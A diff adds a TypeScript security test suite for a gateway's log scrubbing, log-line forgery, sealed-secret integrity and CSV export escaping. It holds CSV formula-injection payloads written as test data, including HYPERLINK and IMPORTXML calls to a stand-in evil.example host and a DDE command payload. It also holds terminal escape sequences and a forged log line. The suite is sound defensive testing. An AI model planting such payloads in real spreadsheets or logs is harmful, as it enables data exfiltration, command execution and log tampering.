@@ -1,0 +1,304 @@
+/** Secrets and forged lines in the log, a copied database, and formulas in exports: families 34, 35, 42 and 47. */
+import { itemLines } from '../../../gateway/cli/lines.ts'
+import { createLog } from '../../../gateway/kit/log.ts'
+import { createSecretBox } from '../../../gateway/kit/secret-box.ts'
+import { type Case, type Family, family } from '../attack.ts'
+import { never } from './checks.ts'
+
+const LOG = 'gateway/kit/log.ts'
+const SCRUB = 'gateway/kit/scrub.ts'
+const BOX = 'gateway/kit/secret-box.ts'
+const LINES = 'gateway/cli/lines.ts'
+
+function lineOf(fields: object, message: string, pretty = false): string {
+  let written = ''
+  const log = createLog({
+    pretty,
+    write: (line) => {
+      written += line
+    },
+  })
+  log.warn(fields, message)
+  return written
+}
+
+const CORE = 'c0ffeec0ffeec0ffeec0ffeec0'
+/** Each has `CORE` in it, or is nothing but a hash. */
+const TEXTS: Record<string, string> = {
+  'an API key': `tt_live_abcdefgh_${CORE}${CORE}_12345678`,
+  'an API key in upper case': `TT_LIVE_ABCDEFGH_${CORE}`,
+  'a webhook secret': `whsec_${CORE}+/=`,
+  'a token of Steam': `eyJhbGciOiJFZERTQSJ9.${CORE}.${CORE}`,
+  'half a token of Steam': `eyJhbGciOiJFZERTQSJ9${CORE}`,
+  'a trade link': `https://steamcommunity.com/tradeoffer/new/?partner=1&token=${CORE}`,
+  'an encoded trade link': `tradeoffer%2Fnew%3Fpartner%3D1%26token%3D${CORE}`,
+  'a header': `authorization: Bearer ${CORE}`,
+  'a cookie of Steam': `steamLoginSecure=${CORE}; sessionid=${CORE}`,
+  'JSON in a text': `{"refresh_token":"${CORE}"}`,
+  'JSON in JSON in a text': `{\\"access_token\\":\\"${CORE}\\"}`,
+  'an address of the database': `postgres://till:${CORE}@db.example/till`,
+  'a link': `https://till.test/deposit/012345${CORE}`,
+  'a link in a query': `GET /api/payment?hash=012345${CORE}&x=1`,
+}
+const PLACES: Record<string, (text: string) => [fields: object, message: string]> = {
+  'in the message': (text) => [{}, `failed: ${text}`],
+  'in a field': (text) => [{ note: text }, 'failed'],
+  'in an error': (text) => [{ err: new Error(text) }, 'failed'],
+  'in the cause of an error': (text) => [{ err: new Error('outer', { cause: new Error(text) }) }, 'failed'],
+  'deep in a field': (text) => [{ a: { b: [{ c: text }] } }, 'failed'],
+}
+const FIELDS = [
+  ...['apiKey', 'authorization', 'cookie', 'set-cookie', 'x-csrf-token', 'token', 'tradeUrl', 'refreshToken'],
+  ...[
+    'identity_secret',
+    'shared_secret',
+    'secret',
+    'webhookSecret',
+    'user_token',
+    'partner_token',
+    'password',
+    'masterKey',
+  ],
+]
+
+export const canaries: Family = family({
+  number: 34,
+  name: 'secrets in the log',
+  kind: 'pure',
+  defences: {
+    'forms of secrets': {
+      at: `${SCRUB} scrub`,
+      off: [
+        { file: SCRUB, from: 'return SECRET_FORMS.reduce(', to: 'return SECRET_FORMS.slice(0, 0).reduce(' },
+      ],
+    },
+    'names of fields': {
+      at: `${LOG} hideField`,
+      off: [{ file: LOG, from: 'if (SECRET_KEYS.has(key)) return HIDDEN', to: '' }],
+    },
+    'rows that a database quotes': {
+      at: `${LOG} errorFields`,
+      off: [{ file: LOG, from: '.filter(([key]) => !ROW_FIELDS.has(key.toLowerCase()))', to: '' }],
+    },
+  },
+  honest: () =>
+    never(!lineOf({ botId: '7' }, 'bot refused').includes('"botId":"7"'), 'a line lost its field'),
+  cases: () => [
+    ...Object.entries(TEXTS).flatMap(([what, text]) =>
+      Object.entries(PLACES).map(([place, linesOf]) => ({
+        what: `${what} ${place}`,
+        by: 'forms of secrets' as const,
+        attack: () =>
+          never(
+            lineOf(...linesOf(text))
+              .toLowerCase()
+              .includes(CORE),
+            'stands in the log',
+          ),
+      })),
+    ),
+    ...FIELDS.map((field) => ({
+      what: `a field ${field}`,
+      by: 'names of fields' as const,
+      attack: () =>
+        never(lineOf({ call: { [field]: 'plain words' } }, 'x').includes('plain words'), 'stands in the log'),
+    })),
+    ...['detail', 'where', 'internalQuery', 'parameters'].map((field) => ({
+      what: `${field} of an error of PostgreSQL`,
+      by: 'rows that a database quotes' as const,
+      attack: () =>
+        never(
+          lineOf({ err: Object.assign(new Error('x'), { [field]: 'plain words' }) }, 'x').includes(
+            'plain words',
+          ),
+          'stands in the log',
+        ),
+    })),
+  ],
+})
+
+const CONTROLS = [
+  '\u007f',
+  '\u0080',
+  '\u0085',
+  '\u009b31m',
+  '\u009d0;title\u009c',
+  '\u0090x',
+  '\u008dx',
+  '\u009f',
+]
+const BREAKS = ['\n', '\r', '\r\n', '\u001b[2J', '\u001b]0;x\u0007', '\b', '\u0000', '\u000b', '\u000c']
+const FORGED = '12:00:00 INFO  paid'
+
+export const forgedLines: Family = family({
+  number: 35,
+  name: 'forged lines of the log, and what drives a terminal',
+  kind: 'pure',
+  defences: {
+    'controls that JSON leaves': {
+      at: `${LOG} escapeControls`,
+      off: [
+        {
+          file: LOG,
+          from: 'return line.replace(/[\\u007f-\\u009f]/g, ',
+          to: 'return line.replace(/(?!)/g, ',
+        },
+      ],
+    },
+    'controls in readable lines': {
+      at: `${LOG} printable`,
+      off: [{ file: LOG, from: "return text.replace(/\\p{Cc}/gu, ' ')", to: 'return text' }],
+    },
+  },
+  honest: () =>
+    never(!lineOf({}, 'all is well', true).endsWith('all is well\n'), 'a readable line is changed'),
+  cases: () => [
+    ...CONTROLS.flatMap((control) =>
+      [
+        ['in the message', lineOf.bind(null, {}, `x${control}y`)] as const,
+        ['in a field', lineOf.bind(null, { name: `x${control}y` }, 'x')] as const,
+      ].map(([place, line]) => ({
+        what: `${JSON.stringify(control)} ${place}`,
+        by: 'controls that JSON leaves' as const,
+        attack: () => never(/[\u007f-\u009f]/.test(line()), 'stands in the log'),
+      })),
+    ),
+    ...BREAKS.map((control) => ({
+      what: `${JSON.stringify(control)} before a forged line`,
+      by: 'controls in readable lines' as const,
+      attack: () =>
+        never(/\p{Cc}./u.test(lineOf({}, `x${control}${FORGED}`, true)), 'makes a line of its own'),
+    })),
+  ],
+})
+
+const KEY = Buffer.alloc(32, 5)
+const PLACE = 'bot 1 refresh_token'
+const SECRET = 'a token of a bot'
+
+function opened(sealed: Buffer, place: string, key = KEY): string | undefined {
+  try {
+    return createSecretBox(key).open(sealed, place)
+  } catch {
+    return undefined
+  }
+}
+
+export const sealed: Family = family({
+  number: 42,
+  name: 'a copied or changed database',
+  kind: 'pure',
+  defences: {
+    'bound to its place': {
+      at: `${BOX} createSecretBox`,
+      off: [
+        { file: BOX, from: 'masterKey, nonce).setAAD(Buffer.from(aad))', to: 'masterKey, nonce)' },
+        {
+          file: BOX,
+          from: 'decipher.setAAD(Buffer.from(aad)).setAuthTag(tag)',
+          to: 'decipher.setAuthTag(tag)',
+        },
+      ],
+    },
+    'no byte changed': {
+      at: `${BOX} createSecretBox`,
+      off: [{ file: BOX, from: ', decipher.final()])', to: '])' }],
+    },
+  },
+  honest: () => {
+    const box = createSecretBox(KEY)
+    return never(box.open(box.seal(SECRET, PLACE), PLACE) !== SECRET, 'a sealed text does not open')
+  },
+  cases() {
+    const whole = createSecretBox(KEY).seal(SECRET, PLACE)
+    const places = [
+      'bot 2 refresh_token',
+      'bot 1 other',
+      'webhook_endpoint 1 secret',
+      'Bot 1 refresh_token',
+      '',
+      `${PLACE} `,
+    ]
+    const moved: Case<'bound to its place' | 'no byte changed'>[] = places.map((place) => ({
+      what: `moved to '${place}'`,
+      by: 'bound to its place',
+      attack: () => never(opened(whole, place) !== undefined, 'opens'),
+    }))
+    const flipped = Array.from({ length: whole.length - 1 }, (_, index) => ({
+      what: `a bit of byte ${index + 1}`,
+      by: 'no byte changed' as const,
+      attack() {
+        const other = Buffer.from(whole)
+        other[index + 1] = (other[index + 1] ?? 0) ^ 1
+        return never(opened(other, PLACE) !== undefined, 'opens')
+      },
+    }))
+    const keys = [0, 1, 31].map((at) => ({
+      what: `another key in byte ${at}`,
+      by: 'no byte changed' as const,
+      attack() {
+        const other = Buffer.from(KEY)
+        other[at] = 6
+        return never(opened(whole, PLACE, other) !== undefined, 'opens')
+      },
+    }))
+    const cut = {
+      what: 'cut short',
+      by: 'no byte changed' as const,
+      attack: () => never(opened(whole.subarray(0, -1), PLACE) !== undefined, 'opens'),
+    }
+    return [...moved, ...flipped, ...keys, cut]
+  },
+})
+
+const FORMULAS = [
+  ...[
+    '=1+1',
+    '=HYPERLINK("https://evil.example","x")',
+    '+1+1',
+    '-1+1',
+    '@SUM(1)',
+    '\t=1+1',
+    "=cmd|'/c calc'!A1",
+  ],
+  ...[
+    '==1',
+    '+cmd',
+    '-cmd',
+    '@x',
+    '=\n1',
+    '=","',
+    "='x'",
+    '=IMPORTXML("https://evil.example","//a")',
+    '-2+3+cmd',
+  ],
+]
+
+/** The cell as a program reads CSV. */
+const firstSign = (marketHashName: string): string => {
+  const item = {
+    ...{ item: '1', bot: 'b', botSteamId: '7', appId: 570, contextId: '2', assetId: '3', marketHashName },
+    ...{ priceMinor: 1n, currency: 'USD' as const, receivedAt: new Date(0), protectedUntil: null },
+  }
+  const line = itemLines({ items: [item] })[1] ?? ''
+  return line.slice('1,b,7,570,3,'.length).replace(/^"/, '').slice(0, 1)
+}
+
+export const formulas: Family = family({
+  number: 47,
+  name: 'formulas in exports',
+  kind: 'pure',
+  defences: {
+    'plain text': {
+      at: `${LINES} cell`,
+      off: [{ file: LINES, from: '/^[=+\\-@\\t]/.test(value)', to: 'false' }],
+    },
+  },
+  honest: () => never(firstSign('Knife') !== 'K', 'a plain name is changed'),
+  cases: () =>
+    FORMULAS.map((name) => ({
+      what: JSON.stringify(name),
+      by: 'plain text' as const,
+      attack: () => never(/[=+\-@\t]/.test(firstSign(name)), 'begins a formula'),
+    })),
+})
